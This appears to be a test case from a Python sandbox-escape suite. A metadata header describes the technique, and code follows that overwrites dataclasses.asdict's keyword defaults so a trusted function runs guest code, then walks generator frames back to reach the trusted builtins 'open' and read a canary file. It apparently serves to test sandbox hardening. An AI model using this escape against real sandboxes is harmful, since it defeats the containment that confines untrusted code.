# id: func-defaults-write
# family: function-internals
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: setting the default of a trusted function makes it call guest code from its own frame
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import dataclasses


def planted(pairs):
    trusted = probe.gi_frame.f_back.f_back
    print(trusted.f_builtins["open"]("canary.txt").read())
    return {}


def stepping():
    yield planted([])


@dataclasses.dataclass
class Empty:
    pass


dataclasses.asdict.__kwdefaults__["dict_factory"] = lambda pairs: next(probe)
probe = stepping()
dataclasses.asdict(Empty())
